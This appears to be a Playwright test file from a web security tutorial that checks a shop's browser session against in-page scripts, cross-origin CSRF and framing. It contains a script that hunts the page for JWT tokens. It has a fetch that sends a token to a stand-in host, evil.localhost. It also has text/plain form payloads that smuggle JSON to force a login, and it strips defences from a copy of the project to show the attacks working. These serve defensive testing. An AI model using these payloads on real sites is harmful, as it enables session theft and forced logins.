"""Attacks on a browser's session: from its own page, and from pages of other origins."""

import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page

from tutorial import tokens
from tutorial.project_files import clean_copy
from tutorial.running.server import PASSWORD, serve

from .conftest import PART, Site
from .pages import is_in, log_in

Visit = Callable[..., Page]

# A script in the page


# Everything that a script finds by itself: what the browser stores, and each global, deep.
SEARCH = """async () => {
    const found = [document.cookie, JSON.stringify(localStorage), JSON.stringify(sessionStorage)];
    found.push(JSON.stringify(await indexedDB.databases()), JSON.stringify(await caches.keys()));
    found.push(JSON.stringify((await cookieStore.getAll()).map((each) => [each.name, each.value])));
    const seen = new Set();
    const look = (value) => {
        if (typeof value === "string") return found.push(value);
        if (!value || !["object", "function"].includes(typeof value) || seen.has(value)) return;
        seen.add(value);
        if (typeof value === "function") found.push(Function.prototype.toString.call(value));
        for (const name of Reflect.ownKeys(value)) {
            try { look(value[name]); } catch { /* some of a browser's own cannot be read */ }
        }
    };
    look(window);
    return found.join("\\n").match(/eyJ[\\w-]+\\.[\\w-]+\\.[\\w-]+/g) ?? [];
}"""


def test_a_script_in_the_page_finds_no_token(visit: Visit, context: BrowserContext) -> None:
    page = visit()
    log_in(page)
    page.reload()  # a refresh, too
    is_in(page)
    held = [cookie for cookie in context.cookies() if cookie["name"] == "__Secure-refresh"]
    assert held and held[0]["httpOnly"], "the browser itself has the cookie"
    assert page.evaluate(SEARCH) == []


@pytest.mark.parametrize(
    "place", ["window.here = {deep: [t]}", "localStorage.here = t", "document.cookie = `here=${t}`"]
)
def test_the_search_would_find_one(visit: Visit, place: str) -> None:
    page = visit()
    page.evaluate(f"(t) => {{ {place} }}", "eyJhbGciOi.eyJzdWIi.c2lnbmF0")
    assert page.evaluate(SEARCH)


def test_what_a_script_can_still_do(visit: Visit, shop: Site) -> None:
    """While the page is open it acts as its reader, and takes five minutes of access away."""
    page = visit()
    log_in(page)
    got, seen = page.evaluate(
        """async (api) => {
            const response = await fetch(`${api}/auth/browser/refresh/`, {
                method: "POST", credentials: "include", body: "{}",
                headers: { "Content-Type": "application/json" },
            });
            return [await response.json(), [...response.headers.keys()]];
        }""",
        shop.api_url,
    )
    assert set(got) == {"access", "expires_in"} and got["expires_in"] == 300
    assert "set-cookie" not in seen


def test_the_policy_stops_a_smuggled_script(context: BrowserContext, shop: Site) -> None:
    """As HTML or inline, it does not run. And nothing is sent to another server."""
    page = context.new_page()
    page.goto(shop.url)
    refused = page.evaluate(
        """async () => {
            const refused = [];
            const attempt = async (name, work) => {
                try { await work(); } catch { refused.push(name); }
            };
            await attempt("html", () => { document.body.innerHTML = "<b>text</b>"; });
            await attempt("inline", () => {
                document.body.append(document.createElement("script"));
                document.body.lastChild.textContent = "window.ran = true";
            });
            await attempt("send", () => fetch("http://evil.localhost:9/?token"));
            return refused;
        }"""
    )
    assert refused == ["html", "inline", "send"]
    assert page.evaluate("window.ran ?? false") is False


# Pages of other origins


class Pages(BaseHTTPRequestHandler):
    """An empty page, by whatever name it is asked for."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>A page</title><body>")

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture(scope="module")
def port() -> Iterator[int]:
    """Where the empty pages are: the shop's own, its sibling's and a foreign one's."""
    with ThreadingHTTPServer(("127.0.0.1", 0), Pages) as pages:
        threading.Thread(target=pages.serve_forever, daemon=True).start()
        yield pages.server_port
        pages.shutdown()


# What takes each of the defences out of a copy of the part.
DEFENCES = {
    "SameSite": ("medium/settings.py", '"samesite": "Strict"', '"samesite": "None"'),
    "Origin": (
        "accounts/browser.py",
        'request.headers.get("Origin") not in settings.CORS_ALLOWED_ORIGINS',
        "False",
    ),
    "JSON": (
        "accounts/browser.py",
        "not request.negotiator.select_parser(request, request.parsers)",
        "False",
    ),
}
# JSON in a form's clothes, for a server that has no other parser.
ANY_PARSER = (
    "accounts/browser.py",
    "    parser_classes = [JSONParser]\n",
    '    parser_classes = [type("Any", (JSONParser,), {"media_type": "*/*"})]\n',
)


@contextmanager
def api_with(folder: Path, port: int, *defences: str) -> Iterator[str]:
    """Serve the part, with these of its defences only, as api.shop.localhost."""
    project = PART.path
    if set(defences) != set(DEFENCES):
        project = folder / "-".join(["with", *defences])
        clean_copy(PART.path, project)
        edits = [edit for name, edit in DEFENCES.items() if name not in defences]
        if "JSON" not in defences:
            edits.append(ANY_PARSER)
        for file, old, new in edits:
            text = (project / file).read_text(encoding="utf-8")
            assert text.count(old) == 1, f"{file} has changed, and has no {old}"
            (project / file).write_text(text.replace(old, new), encoding="utf-8")
    environment = {
        "DJANGO_CORS_ALLOWED_ORIGINS": f"http://shop.localhost:{port}",
        "DJANGO_ALLOWED_HOSTS": "api.shop.localhost,127.0.0.1",
        "TUTORIAL_ATTEMPTS": "1000",
        "TUTORIAL_FAST_PASSWORDS": "1",
    }
    with serve(project, environment=environment) as api:
        yield api.url.replace("127.0.0.1", "api.shop.localhost")


WHICH = {"all": tuple(DEFENCES), "none": (), **{name: (name,) for name in DEFENCES}}


@pytest.fixture(scope="module")
def apis(tmp_path_factory: pytest.TempPathFactory, port: int) -> Iterator[dict[str, str]]:
    """The part, and what is left of it with one defence alone and with none."""
    folder = tmp_path_factory.mktemp("copies")
    with ExitStack() as stack, ThreadPoolExecutor(2) as starter:
        started = {
            name: starter.submit(
                lambda only=only: stack.enter_context(api_with(folder, port, *only))
            )
            for name, only in WHICH.items()
        }
        yield {name: each.result() for name, each in started.items()}


@dataclass
class Victim:
    """Somebody who is logged in at the shop, and then looks at other pages."""

    context: BrowserContext
    api: str
    port: int

    def __post_init__(self) -> None:
        self.shop = self.page("shop.localhost")

    def page(self, host: str) -> Page:
        page = self.context.new_page()
        page.goto(f"http://{host}:{self.port}/")
        return page

    def ask(self, action: str, **data: str) -> dict:
        """Send a request from the shop's own page; return what comes back."""
        return self.shop.evaluate(
            """async ([url, data]) => {
                const response = await fetch(url, {
                    method: "POST", credentials: "include", body: JSON.stringify(data),
                    headers: { "Content-Type": "application/json" },
                });
                return response.ok ? await response.json() : { status: response.status };
            }""",
            [f"{self.api}/auth/browser/{action}/", data],
        )

    def log_in(self) -> None:
        assert "access" in self.ask("login", username="demo", password=PASSWORD)

    def is_still(self) -> str:
        """Return who the browser is logged in as, or nothing."""
        access = self.ask("refresh").get("access")
        return tokens.decode(access)[1]["username"] if access else ""


# A form that logs the reader in as somebody else: with text/plain, its one field is JSON.
LOGIN_FORM = """([url, name, value]) => {
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", action: url, enctype: "text/plain" });
    const field = document.createElement("input");
    Object.assign(field, { name, value });
    form.append(field);
    document.body.append(form);
    form.submit();
}"""
EMPTY_FORM = """([url]) => {
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", action: url });
    document.body.append(form);
    form.submit();
}"""
# A script that cares for no response: what is sent is enough.
BLIND = """([url, , , type]) => fetch(url, {
    method: "POST", credentials: "include", mode: type ? "cors" : "no-cors", body: "{}",
    headers: type ? { "Content-Type": type } : {},
}).then(() => null, () => null)"""


def attack(victim: Victim, host: str, kind: str) -> None:
    """Do one attack from a page of this host, and wait until it has arrived."""
    page = victim.page(host)
    action = "login" if kind == "login form" else "logout"
    url = f"{victim.api}/auth/browser/{action}/"
    if kind.endswith("form"):
        smuggled = f'{{"username": "admin", "password": "{PASSWORD}", "x": "'
        script = LOGIN_FORM if kind == "login form" else EMPTY_FORM
        with page.expect_response(url):
            page.evaluate(script, [url, smuggled, '"}'])
    else:
        page.evaluate(BLIND, [url, "", "", "application/json" if kind == "JSON" else ""])
    page.close()


SIBLING, FOREIGN = "evil.shop.localhost", "evil.localhost"
KINDS = ("login form", "logout form", "script", "JSON")


@pytest.fixture
def victim(context: BrowserContext, apis: dict[str, str], port: int) -> Callable[[str], Victim]:
    return lambda which: Victim(context, apis[which], port)


def got_through(victim: Victim) -> set[tuple[str, str]]:
    """Return which attacks, from where, have cost the reader their session."""
    through = set()
    for host in (SIBLING, FOREIGN):
        for kind in KINDS:
            victim.log_in()
            attack(victim, host, kind)
            if victim.is_still() != "demo":
                through.add((host, kind))
    return through


@pytest.mark.parametrize("which", ["all", "Origin", "JSON"])
def test_a_page_of_another_origin_changes_nothing(
    victim: Callable[[str], Victim], which: str
) -> None:
    """Neither check alone lets anything through; and with both, nothing does either."""
    assert got_through(victim(which)) == set()


def test_same_site_alone_stops_no_sibling(victim: Callable[[str], Victim]) -> None:
    """A sibling subdomain is the same site. And no attribute of a cookie stops a login."""
    through = got_through(victim("SameSite"))
    assert {kind for host, kind in through if host == SIBLING} == {
        "login form",
        "logout form",
        "script",
    }
    assert (FOREIGN, "script") not in through
    assert (FOREIGN, "login form") in through


def test_without_defences_every_attack_works(victim: Callable[[str], Victim]) -> None:
    """These attacks are real; but JSON is not sent before a preflight, which CORS refuses."""
    kinds = ("login form", "logout form", "script")
    through = got_through(victim("none"))
    # Some browsers send no cookie at all with what a script of another site asks for.
    through.add((FOREIGN, "script"))
    assert through == {(host, kind) for host in (SIBLING, FOREIGN) for kind in kinds}


def test_no_other_page_shows_this_one(context: BrowserContext, running: Site, port: int) -> None:
    page = context.new_page()
    ends = ("chrome-error:", running.url)
    for host in ("localhost", "evil.localhost"):
        page.goto(f"http://{host}:{port}/")
        with page.expect_event("framenavigated", lambda frame: frame.url.startswith(ends)) as seen:
            page.evaluate(
                """(url) => {
                    const frame = document.createElement("iframe");
                    frame.src = url;
                    document.body.append(frame);
                }""",
                running.url,
            )
        assert seen.value.url.startswith("chrome-error:"), f"{host} shows {seen.value.url}"
